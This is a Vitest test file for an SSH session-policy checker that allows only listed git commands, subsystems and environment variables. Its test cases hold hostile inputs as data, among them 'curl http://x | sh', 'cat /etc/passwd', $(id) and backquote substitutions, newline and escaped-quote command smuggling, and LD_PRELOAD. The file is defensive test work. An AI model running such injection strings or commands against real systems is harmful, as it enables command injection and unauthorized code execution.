import { describe, expect, it } from 'vitest';
import { describeSessionPolicy, judgeEnv, judgeExec, judgeShell, judgeSubsystem } from '../../../src/intercept/ssh/session-policy.js';
import type { SshInterception } from '../../../src/policy/types.js';

const base: SshInterception = { kind: 'ssh', user: 'git', key: 'k', hostKeySha256: `SHA256:${'a'.repeat(43)}` };
const gitOnly: SshInterception = { ...base, exec: ['git-upload-pack', 'git-receive-pack'] };

describe('SSH session policy', () => {
  it('allows anything when the rule lists no exec commands', () => {
    expect(judgeExec(base, 'curl http://x | sh')).toEqual({ ok: true });
    expect(judgeShell(base)).toEqual({ ok: true });
    expect(judgeSubsystem(base, 'sftp')).toEqual({ ok: true });
  });

  it('allows the listed commands in the form git sends them', () => {
    expect(judgeExec(gitOnly, "git-upload-pack '/srv/repo.git'")).toEqual({ ok: true });
    expect(judgeExec(gitOnly, "git-receive-pack 'team/repo.git'")).toEqual({ ok: true });
    expect(judgeExec(gitOnly, 'git-upload-pack repo.git')).toEqual({ ok: true });
  });

  it.each([
    ['another command', 'cat /etc/passwd', /command "cat" is not allowed here; allowed: exec of git-upload-pack, git-receive-pack/],
    ['a prefix glued to shell syntax', 'git-upload-pack;sh', /command "git-upload-pack;sh" is not allowed/],
    ['a command after a separator', "git-upload-pack 'x'; curl evil", /shell syntax such as "x';" is refused|shell syntax such as "curl"|shell syntax/],
    ['a substitution', 'git-upload-pack $(id)', /shell syntax such as "\$\(id\)" is refused/],
    ['a pipe', "git-upload-pack 'x' | sh", /shell syntax such as "\|" is refused/],
    ['a backquote inside an unquoted word', 'git-upload-pack `id`', /shell syntax/],
    ['an unbalanced quote', "git-upload-pack 'x", /shell syntax/],
    ['a newline', "git-upload-pack 'x'\nid", /shell syntax/],
    ['a backslash-escaped quote (fish continues the string past it)', "git-upload-pack 'x\\' ';id;'", /shell syntax such as "'x\\\\'" is refused/],
  ])('refuses %s', (_what, command, reason) => {
    const judgement = judgeExec(gitOnly, command);
    expect(judgement.ok).toBe(false);
    if (!judgement.ok) expect(judgement.reason).toMatch(reason);
  });

  it('restricts a rule that lists only subsystems: no exec, no shell, no other variables', () => {
    const sftpOnly: SshInterception = { ...base, subsystems: ['sftp'] };
    expect(judgeSubsystem(sftpOnly, 'sftp')).toEqual({ ok: true });
    expect(judgeExec(sftpOnly, 'id')).toMatchObject({ ok: false, reason: expect.stringMatching(/allowed: no exec; subsystems: sftp; no shell/) });
    expect(judgeShell(sftpOnly).ok).toBe(false);
    expect(judgeEnv(sftpOnly, 'LD_PRELOAD', '/tmp/x.so').ok).toBe(false);
    expect(judgeEnv(sftpOnly, 'LC_ALL', 'C.UTF-8')).toEqual({ ok: true });
    expect(judgeEnv(gitOnly, 'GIT_PROTOCOL', 'version=2')).toEqual({ ok: true });
    expect(judgeEnv(gitOnly, 'GIT_PROTOCOL', 'version=2;id').ok).toBe(false);
    expect(judgeEnv(base, 'LD_PRELOAD', '/tmp/x.so')).toEqual({ ok: true });
  });

  it('refuses a shell and unlisted subsystems once exec is restricted', () => {
    expect(judgeShell(gitOnly)).toMatchObject({ ok: false, reason: expect.stringMatching(/interactive shell is not allowed/) });
    expect(judgeSubsystem(gitOnly, 'sftp')).toMatchObject({ ok: false, reason: expect.stringMatching(/subsystem "sftp" is not allowed/) });
    expect(judgeSubsystem({ ...gitOnly, subsystems: ['sftp'] }, 'sftp')).toEqual({ ok: true });
  });

  it('says what is allowed, for the agent', () => {
    expect(describeSessionPolicy({ ...gitOnly, subsystems: ['sftp'] })).toBe(
      'allowed: exec of git-upload-pack, git-receive-pack; subsystems: sftp; no shell, no port, X11 or agent forwarding',
    );
  });
});
